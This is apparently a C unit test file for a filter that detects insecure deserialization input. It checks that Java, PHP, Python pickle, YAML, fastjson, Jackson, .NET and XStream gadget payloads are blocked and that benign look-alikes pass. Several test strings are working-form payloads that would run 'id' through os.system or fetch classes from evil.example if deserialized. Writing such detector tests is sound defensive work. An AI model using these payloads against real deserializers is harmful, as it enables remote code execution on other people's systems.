/** Texts that readers of objects run, and texts that only look like such streams. */
#include "tests/unit/filter_alone.h"

static void blocks_streams_tags_and_types(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"object 0", PEN_STR("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA")},
        {"object 1", PEN_STR("token=rO0ABXQABGFiY2Q=")},
        {"object 2", PEN_STR("aced00057372001164617461")},
        {"object 3", PEN_STR("AAEAAAD/////AQAAAAAAAAAMAgAAAFdTeXN0ZW0u")},
        {"object 4", PEN_STR("gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU")},
        {"object 5", PEN_STR("BAhvOhVHZW06OlJlcXVpcmVtZW50")},
        {"object 6", PEN_STR("O:8:\"Example1\":1:{s:3:\"cmd\";s:2:\"id\";}")},
        {"object 7", PEN_STR("O:+8:\"Example1\":0:{}")},
        {"object 8", PEN_STR("C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}")},
        {"object 9", PEN_STR("a:1:{i:0;O:8:\"Example1\":0:{}}")},
        {"object 10", PEN_STR("x|O:8:\"Example1\":0:{}")},
        {"object 11", PEN_STR("a:2:{s:4:\"user\";s:5:\"admin\";s:2:\"ok\";b:1;}")},
        {"object 12", PEN_STR("!!python/object/apply:os.system [\"id\"]")},
        {"object 13", PEN_STR("a: !!python/object/new:subprocess.Popen [id]")},
        {"object 14", PEN_STR("!!python/name:os.system")},
        {"object 15", PEN_STR("--- !ruby/object:Gem::Requirement")},
        {"object 16", PEN_STR("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                              "[[!!java.net.URL [\"http://evil.example/\"]]]]")},
        {"object 17", PEN_STR("!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: x}")},
        {"object 18", PEN_STR("{\"rce\":\"_$$ND_FUNC$$_function(){return 1}()\"}")},
        {"object 19", PEN_STR("{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":"
                              "\"ldap://evil.example\"}")},
        {"object 20",
         PEN_STR("{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}")},
        {"object 21",
         PEN_STR("'$type':'System.Diagnostics.Process, System, PublicKeyToken=b77a5c561934e089'")},
        {"object 22", PEN_STR("<java class=\"java.beans.XMLDecoder\"><object "
                              "class=\"java.lang.ProcessBuilder\"/></java>")},
        {"object 23", PEN_STR("<sorted-set><dynamic-proxy><interface>java.lang.Comparable</"
                              "interface></dynamic-proxy></sorted-set>")},
        {"object 24", PEN_STR("<?php __HALT_COMPILER(); ?>")},
        {"object 25", PEN_STR("{\"a\":\"$$BCEL$$$l$8b$I$A\"}")},
        {"pickle's first protocol", PEN_STR("cos\nsystem\n(S'id'\ntR.")},
    };
    filter_case_blocks(&it, "deser", rows, PEN_COUNT_OF(rows));
}

static void blocks_what_each_reader_makes_objects_of(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"pickle 0 as the library writes it", PEN_STR("cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.")},
        {"pickle 0 with an instance", PEN_STR("(S'id'\nios\nsystem\n.")},
        {"pickle 0 with an object", PEN_STR("(cos\nsystem\nS'id'\no.")},
        {"pickle 0, any module", PEN_STR("cwebbrowser\nopen\n(S'http://evil.example'\ntR.")},
        {"pickle 1 in base64", PEN_STR("Y3Bvc2l4CnN5c3RlbQpxAChYAgAAAGlkcQF0cQJScQMu")},
        {"pickle 2 in base64", PEN_STR("gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==")},
        {"pickle 3 in hexadecimal",
         PEN_STR("800363706f7369780a73797374656d0a71005802000000696471018571025271032e")},
        {"pickle 4 in hexadecimal",
         PEN_STR("8004951d000000000000008c05706f736978948c0673797374656d9493948c0269649485945294"
                 "2e")},
        {"pickle 5 in base64", PEN_STR("gAWVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==")},
        {"pickle 4 in gzip",
         PEN_STR("H4sIAOmzCWsC/2tgmSrLAAE9rAX5xZkVU3rYiiuLS1Jzp0ye0sOUmTKldUrQFD0AS8mNKigAAAA=")},
        {"a pickle of plain data",
         PEN_STR("gAJ9cQAoWAQAAAB1c2VycQFYBQAAAGFkbWlucQJYAgAAAGlkcQNLBXUu")},
        {".NET in hexadecimal",
         PEN_STR("0001000000ffffffff01000000000000000c020000005e4d6963726f736f6674")},
        {"a view state with objects",
         PEN_STR("/wEyvwcAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxs")},
        {"Ruby's user-marshalled object", PEN_STR("BAhVOhVHZW06OlJlcXVpcmVtZW50WwZvOhxHZW06")},
        {"PHP's enumeration", PEN_STR("E:11:\"Suit:Hearts\";")},
        {"PHP's reference", PEN_STR("a:2:{i:0;O:4:\"Evil\":0:{}i:1;R:2;}")},
        {"PHP's session", PEN_STR("username|s:5:\"admin\";obj|O:4:\"User\":0:{}")},
        {"a full tag", PEN_STR("!<tag:yaml.org,2002:python/object/apply:os.system> [\"id\"]")},
        {"a short name for tags",
         PEN_STR("%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system [\"id\"]")},
        {"a tag of Java's",
         PEN_STR("a: !!ch.qos.logback.core.db.DriverManagerConnectionSource {}")},
        {"a tag of .NET's", PEN_STR("!System.Windows.Data.ObjectDataProvider {MethodName: Start}")},
        {"a tag of JavaScript's", PEN_STR("f: !!js/function \"function(){return 1}\"")},
        {"a tag behind an anchor", PEN_STR("io: &1 !ruby/object:Net::BufferedIO")},
        {"funcster", PEN_STR("{\"rce\":{\"__js_function\":\"function testme(){}()\"}}")},
        {"cryo", PEN_STR("{\"root\":\"_CRYO_REF_0\",\"value\":\"_CRYO_FUNCTION_function(){}\"}")},
        {"jsonpickle", PEN_STR("{\"py/reduce\":[{\"py/function\":\"os.system\"},{}]}")},
        {"Ruby's JSON additions", PEN_STR("{\"json_class\":\"Gem::Installer\",\"x\":1}")},
        {"fastjson, any class", PEN_STR("{\"@type\":\"java.lang.AutoCloseable\"}")},
        {"fastjson, a look-up",
         PEN_STR("{\"@type\":\"java.net.Inet4Address\",\"val\":\"x.example\"}")},
        {"fastjson, a class's name in the old form",
         PEN_STR("{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\",\"dataSourceName\":\"rmi://x\"}")},
        {"Jackson's array",
         PEN_STR("[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"x\"}]")},
        {"XAML",
         PEN_STR("<ObjectDataProvider x:Key=\"\" MethodName=\"Start\"></ObjectDataProvider>")},
        {"XmlSerializer",
         PEN_STR("<root type=\"System.Data.Services.Internal.ExpandedWrapper`2[[x]]\"/>")},
        {"XStream, Groovy", PEN_STR("<map><entry><groovy.util.Expando/></entry></map>")},
        {"XStream, the platform's insides",
         PEN_STR("<map><entry><jdk.nashorn.internal.objects.NativeString/></entry></map>")},
        {"Hessian",
         PEN_STR("TXQAHWNvbS5zdW4ucm93c2V0LkpkYmNSb3dTZXRJbXBsUwAOZGF0YVNvdXJjZU5hbWU=")},
        {"a class of jsonpickle's", PEN_STR("{\"py/object\":\"os.system\"}")},
        {"a class of Java's in YAML",
         PEN_STR("!!org.springframework.beans.factory.config.PropertyPathFactoryBean "
                 "{targetBeanName: \"ldap://a.example/\", propertyPath: foo}")},
    };
    filter_case_blocks(&it, "deser", rows, PEN_COUNT_OF(rows));
}

static void stays_silent_on_ordinary_data(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"text 0", PEN_STR("O:12")},
        {"text 1", PEN_STR("at 10:30 o'clock")},
        {"text 2", PEN_STR("O'Brien: 12")},
        {"text 3", PEN_STR("a:b:c")},
        {"text 4", PEN_STR("a:1")},
        {"text 5", PEN_STR("Ratio a:2:3")},
        {"text 6", PEN_STR("aGVsbG8gd29ybGQ=")},
        {"text 7", PEN_STR("SGVsbG8sIFdvcmxkIQ==")},
        {"text 8", PEN_STR("H4sIAAAAAAAAA0tMTAQALXMH8AMAAAA=")},
        {"text 9", PEN_STR("BAhHello")},
        {"text 10", PEN_STR("!important")},
        {"text 11", PEN_STR("!!important note")},
        {"text 12", PEN_STR("!!! warning")},
        {"text 13", PEN_STR("Hello!!python is great")},
        {"text 14", PEN_STR("!include file.yaml")},
        {"text 15", PEN_STR("!Ref MyBucket")},
        {"text 16", PEN_STR("!Sub ${x}")},
        {"text 17", PEN_STR("!GetAtt a.b")},
        {"text 18",
         PEN_STR("java.lang.NullPointerException at com.example.Main.main(Main.java:5)")},
        {"text 19", PEN_STR("The class java.lang.Runtime is part of the JDK.")},
        {"text 20", PEN_STR("org.apache.commons.collections was updated to 3.2.2 because of a bug "
                            "in the library.")},
        {"text 21", PEN_STR("{\"@type\":\"Person\",\"name\":\"Jane\"}")},
        {"text 22", PEN_STR("{\"@type\":\"type.googleapis.com/google.protobuf.Duration\"}")},
        {"text 23", PEN_STR("{\"$type\":\"app.bsky.feed.post\"}")},
        {"text 24", PEN_STR("<bean class=\"com.example.Service\"/>")},
        {"text 25", PEN_STR("PublicKeyToken=b77a5c561934e089")},
        {"text 26", PEN_STR("phar")},
        {"text 27", PEN_STR("Pharaoh")},
        {"text 28", PEN_STR("cos\nsin\ntan")},
        {"text 29", PEN_STR("System.IO.FileInfo")},
        {"words a line, the first like a module", PEN_STR("cos\nlettuce\n(fresh)")},
        {"a tag in a sentence", PEN_STR("use !ruby/object tags with care")},
        {"a tag in a sentence, with a class", PEN_STR("Psych refuses !ruby/object:Foo by now")},
        {"a tag of Python's in a sentence", PEN_STR("never load !!python/object tags")},
        {"a set", PEN_STR("- !!omap\n- !!set {a, b}\n- !!binary aGVsbG8=")},
        {"packages", PEN_STR("[\"org.apache.commons.collections\",\"org.apache.commons.io\"]")},
        {"a logger", PEN_STR("{\"logger\":\"org.springframework.beans.factory.support."
                             "DefaultListableBeanFactory\"}")},
        {"a frame of a stack",
         PEN_STR("{\"class\":\"java.net.SocketInputStream\",\"method\":\"read\"}")},
        {"what was thrown", PEN_STR("{\"@type\":\"java.net.ConnectException\"}")},
        {"a type of one's own", PEN_STR("{\"$type\":\"MyApp.Order, MyApp\"}")},
        {"an assembly", PEN_STR("{\"dependency\":\"Newtonsoft.Json, Version=13.0.0.0, "
                                "PublicKeyToken=30ad4fe6b2a6aeed\"}")},
        {"JSON-LD",
         PEN_STR("{\"@context\":\"https://schema.org\",\"@type\":[\"Person\",\"Employee\"]}")},
        {"a function in JSON", PEN_STR("{\"fn\":\"function(a){return a}\"}")},
        {"a class in JSON", PEN_STR("{\"json_class\":\"Order\"}")},
        {"an end like a pickle's", PEN_STR("See the list\nR.S.V.P.\n.")},
        {"an application's own class", PEN_STR("{\"py/object\":\"shop.models.Order\"}")},
        {"a tag that is told about", PEN_STR("!!org. is what such tags begin with")},
    };
    filter_case_passes(&it, "deser", rows, PEN_COUNT_OF(rows));
}

static void is_linear_where_it_could_be_quadratic(void **state)
{
    (void)state;
    static const struct pen_str pieces[] = {
        PEN_STR("O:1:\""),       PEN_STR("a:1:{"),    PEN_STR("!!python"), PEN_STR("$type"),
        PEN_STR("cos\n"),        PEN_STR("!"),        PEN_STR("c\n\n"),    PEN_STR("S\n"),
        PEN_STR("(S'a'\nios\n"), PEN_STR("&a !ruby/")};
    filter_case_endures(&it, pieces, PEN_COUNT_OF(pieces));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(blocks_streams_tags_and_types),
        cmocka_unit_test(blocks_what_each_reader_makes_objects_of),
        cmocka_unit_test(stays_silent_on_ordinary_data),
        cmocka_unit_test(is_linear_where_it_could_be_quadratic),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
